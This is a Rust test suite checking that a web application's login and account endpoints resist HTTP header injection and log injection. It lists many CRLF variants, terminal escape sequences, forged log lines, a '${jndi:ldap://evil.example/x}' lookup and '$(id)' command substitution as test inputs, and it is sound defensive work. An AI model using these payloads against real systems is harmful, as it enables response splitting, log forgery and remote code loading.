//! Lines that somebody else has written: into the head of an answer (CWE-113) and into the log (CWE-117, CWE-150).

use http::{HeaderValue, Request};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

use super::tell;
use super::wire::exchange;
use crate::harness::{Browser, PASSWORD, Place, application};

/// What begins a new line for somebody; after it stands a header.
const BREAKS: [&str; 22] = [
    "\r\n",
    "\n",
    "\r",
    "\n\r",
    "\r\n\r\n",
    "\r\n ",
    "\0\r\n",
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\u{b}",
    "\u{c}",
    "\u{1c}",
    "\u{560d}\u{560a}",
    "\u{10d}\u{10a}",
    "%0d%0a",
    "%0D%0A",
    "%0a",
    "%250d%250a",
    "\\r\\n",
    "\\u000d\\u000a",
    "&#13;&#10;",
];

/// Percent-encoded as they are: what no text can be.
const RAW: [&str; 6] = ["%0d%0a", "%E5%98%8D%E5%98%8A", "%c0%8d%c0%8a", "%u000d%u000a", "%ff%0d%0a", "%00%0d%0a"];

fn encoded(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

/// The head of every answer, as it came over the wire.
fn holds_no_foreign_line(what: &str, text: &str) {
    for head in text.split("HTTP/1.1 ").skip(1).filter_map(|answer| answer.split("\r\n\r\n").next()) {
        for line in head.split(['\r', '\n']).map(str::trim_start) {
            let begins = line.to_ascii_lowercase();
            assert!(!begins.starts_with("x-injected") && !begins.starts_with("set-cookie: injected"), "{what}: {head}");
        }
        assert!(!head.contains(['\0', '\u{b}', '\u{c}']), "{what}: {head:?}");
    }
}

#[tokio::test]
async fn no_value_begins_a_header_of_its_own() {
    let server = Place::new().set("limits.enabled", "false").serve().await;
    let mut browser = server.browser();
    browser.register("mina").await.expect(201);
    let jar: Vec<_> = browser.jar.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let cookies = [String::new(), format!("Cookie: {}\r\n", jar.join("; "))];
    let texts =
        BREAKS.iter().map(|line| encoded(&format!("/user/info{line}X-Injected: yes{line}Set-Cookie: injected=1")));
    let raw = RAW.iter().map(|line| format!("/user/info{line}X-Injected:+yes{line}Set-Cookie:+injected=1"));
    let mut tried = 0;
    for text in texts.chain(raw) {
        for cookies in &cookies {
            for target in [
                format!("/user/login?return_to={text}"),
                format!("/user/register?return_to={text}"),
                format!("/user/login?lang=ko{text}"),
                format!("/user/login?lang=ko&lang={text}&reason={text}"),
                format!("/user/account?saved={text}"),
                format!("/user/account/{text}"),
                format!("/{text}"),
            ] {
                let request = format!(
                    "GET {target} HTTP/1.1\r\nHost: localhost\r\n{cookies}Accept: text/html\r\nConnection: close\r\n\r\n"
                );
                let heard = exchange(&server.url, request.as_bytes());
                assert_eq!(heard.answers.len(), 1, "{target}: {}", heard.text);
                holds_no_foreign_line(&target, &heard.text);
                tried += 1;
            }
            for (path, body) in [
                ("/user/login", format!("username=mina&password={}&return_to={text}", encoded(PASSWORD))),
                ("/user/login", format!("username={text}&password=wrong-one")),
                ("/user/register", format!("username={text}&name={text}&password=x")),
                ("/user/account/name", format!("name={text}")),
            ] {
                let length = body.len();
                let head = format!(
                    "POST {path} HTTP/1.1\r\nHost: localhost\r\n{cookies}Content-Type: application/x-www-form-urlencoded"
                );
                let request = format!("{head}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}");
                let heard = exchange(&server.url, request.as_bytes());
                assert_eq!(heard.answers.len(), 1, "{path} {body}: {}", heard.text);
                holds_no_foreign_line(&body, &heard.text);
                tried += 1;
            }
        }
    }
    tell(&format!("header injection: {tried} tried, 0 began a line"));
}

/// What a terminal or a reader of logs would take for something else.
fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{feff}')
}

/// Texts with line ends, escape sequences and characters that turn a line around; each would write a line of its own.
fn hostile() -> Vec<Vec<u8>> {
    let forged = "2026-01-01T00:00:00.000000Z  INFO logged_in user=forged";
    let mut texts: Vec<Vec<u8>> = BREAKS.iter().map(|line| format!("INJECT{line}{forged}").into_bytes()).collect();
    for escape in [
        "\u{1b}[2J",
        "\u{1b}[31mred",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;http://evil.example\u{7}",
        "\u{9b}31m",
        "\u{9d}0;x\u{9c}",
        "\u{8}\u{8}\u{8}",
        "\u{7}",
        "\u{7f}",
        "\u{202e}",
        "\u{2066}",
        "\u{200b}",
        "\u{feff}",
        "\u{e0001}",
        "\"}\n{\"message\":\"logged_in\"}",
        "\", \"message\":\"logged_in\", \"x\":\"",
        "user=forged",
        "\t",
        "{}{:?}%s%n",
        "${jndi:ldap://evil.example/x}",
        "$(id)`id`",
        "\\",
        "\\\"",
        "\\x1b[31m",
        "\\u001b[31m",
    ] {
        texts.push(format!("INJECT{escape}{forged}").into_bytes());
    }
    texts.push(b"INJECT\xff\xfe\x9b31m".to_vec());
    texts.push(b"INJECT\xc2".to_vec());
    texts
}

/// Says a text wherever one can be said.
async fn say(browser: &Browser, url: &str, text: &[u8]) -> usize {
    let lossy = String::from_utf8_lossy(text).into_owned();
    let mut said = 0;
    for (path, body) in [
        ("/user/login", json!({ "username": lossy, "password": lossy, "return_to": lossy })),
        ("/user/register", json!({ "username": lossy, "password": lossy, "name": lossy })),
        ("/user/account/name", json!({ "name": lossy })),
        ("/user/account/password", json!({ "currentPassword": lossy, "newPassword": lossy, "confirmPassword": lossy })),
    ] {
        browser.clone().post_json(path, body).await;
        said += 1;
    }
    for path in ["/", "/user/account/sessions/", "/user/static/", "/user/login?return_to="] {
        let target = format!("{path}{}", percent_encoding::percent_encode(text, NON_ALPHANUMERIC));
        browser.clone().get(&target).await;
        let evil = browser.clone().with("origin", "https://evil.example").post_json(&target, json!({})).await;
        assert_eq!(evil.status, 403);
        // As it is, as far as the server reads it as a request.
        let plain: Vec<u8> = text.iter().map(|byte| if b" \r\n".contains(byte) { b'+' } else { *byte }).collect();
        for head in ["GET ", "POST "] {
            let end = " HTTP/1.1\r\nHost: localhost\r\nOrigin: https://evil.example\r\nConnection: close\r\n\r\n";
            exchange(url, &[head.as_bytes(), path.as_bytes(), &plain, end.as_bytes()].concat());
        }
        said += 4;
    }
    if let Ok(value) = HeaderValue::from_bytes(text) {
        for name in [
            "user-agent",
            "host",
            "x-forwarded-for",
            "x-request-id",
            "traceparent",
            "origin",
            "content-type",
            "cookie",
            "authorization",
            "accept-language",
            "referer",
        ] {
            let mut request = Request::post("/user/login").header("content-type", "application/json");
            request.headers_mut().unwrap().insert(name.parse::<http::HeaderName>().unwrap(), value.clone());
            let body = json!({ "username": "nobody", "password": "wrong-one" }).to_string();
            browser.clone().send(request.body(body).unwrap()).await;
            said += 1;
        }
    }
    said
}

async fn logged(format: &str) -> (String, usize) {
    let place = Place::new().set("limits.enabled", "false").set("log.format", format).set("log.level", "debug");
    let server = place.serve().await;
    let mut browser = server.browser();
    browser.post_json("/user/register", application("mina")).await.expect(201);
    browser.log_in("mina").await.expect(200);
    let mut said = 0;
    for text in hostile() {
        said += say(&browser, &server.url, &text).await;
    }
    server.terminate();
    server.ended();
    (place.log(), said)
}

/// Nothing in it moves a cursor, turns a line around, or begins one.
fn is_plain(log: &str) {
    for line in log.lines() {
        assert!(!line.chars().any(is_hostile), "{line:?}");
    }
}

#[tokio::test]
async fn a_log_for_people_has_one_line_an_event_and_no_signs_of_others() {
    let (log, said) = logged("text").await;
    is_plain(&log);
    assert!(log.contains("INJECT"), "what was said shows, or nothing is tried here");
    for line in log.lines() {
        let mut words = line.split_whitespace();
        let time = words.next().unwrap_or_default();
        assert!(time.ends_with('Z') && time.parse::<jiff::Timestamp>().is_ok(), "{line}");
        assert!(["DEBUG", "INFO", "WARN", "ERROR"].contains(&words.next().unwrap_or_default()), "{line}");
    }
    let is = |line: &&str, event: &str| line.split_whitespace().any(|word| word == event) && !line.contains("answered");
    assert_eq!(
        log.lines().filter(|line| is(line, "logged_in") && !line.contains("cross_origin")).count(),
        1,
        "one log-in, one line"
    );
    tell(&format!("log injection: {said} tried, {} lines, 0 forged", log.lines().count()));
}

#[tokio::test]
async fn a_log_for_programs_has_one_object_an_event_and_no_signs_of_others() {
    let (log, said) = logged("json").await;
    is_plain(&log);
    let lines: Vec<Value> =
        log.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"))).collect();
    assert!(log.contains("INJECT"));
    let count = |event: &str| lines.iter().filter(|line| line["message"] == event).count();
    assert_eq!((count("registered"), count("logged_in")), (1, 1));
    assert!(lines.iter().all(|line| line["level"].is_string() && line["timestamp"].is_string()));
    tell(&format!("log injection: {said} tried, {} objects, 0 forged", lines.len()));
}

/// What is stored is shown later, on terminals too.
#[tokio::test]
async fn what_is_stored_of_a_browser_holds_no_signs_either() {
    let place = Place::new().set("limits.enabled", "false");
    let server = place.serve().await;
    server.browser().register("mina").await.expect(201);
    for text in hostile() {
        if let Ok(value) = HeaderValue::from_bytes(&text) {
            let body = json!({ "username": "mina", "password": PASSWORD }).to_string();
            let request =
                Request::post("/user/login").header("content-type", "application/json").header("user-agent", value);
            server.browser().send(request.body(body).unwrap()).await.expect(200);
        }
    }
    let database = rusqlite::Connection::open(place.path().join("data/munjigi.db")).unwrap();
    let mut stored = database.prepare("SELECT user_agent FROM log_ins").unwrap();
    let stored: Vec<String> = stored.query_map([], |row| row.get(0)).unwrap().map(Result::unwrap).collect();
    assert!(stored.iter().any(|agent| agent.contains("INJECT")) && stored.len() >= 20, "{stored:?}");
    for agent in &stored {
        assert!(!agent.chars().any(|c| is_hostile(c) && c != '\t'), "{agent:?}");
    }
    for arguments in [&["session", "list", "mina"][..], &["user", "list"], &["user", "show", "mina"]] {
        for line in place.run(arguments).expect(0).stdout.lines() {
            assert!(!line.chars().any(is_hostile), "{arguments:?}: {line:?}");
        }
    }
}
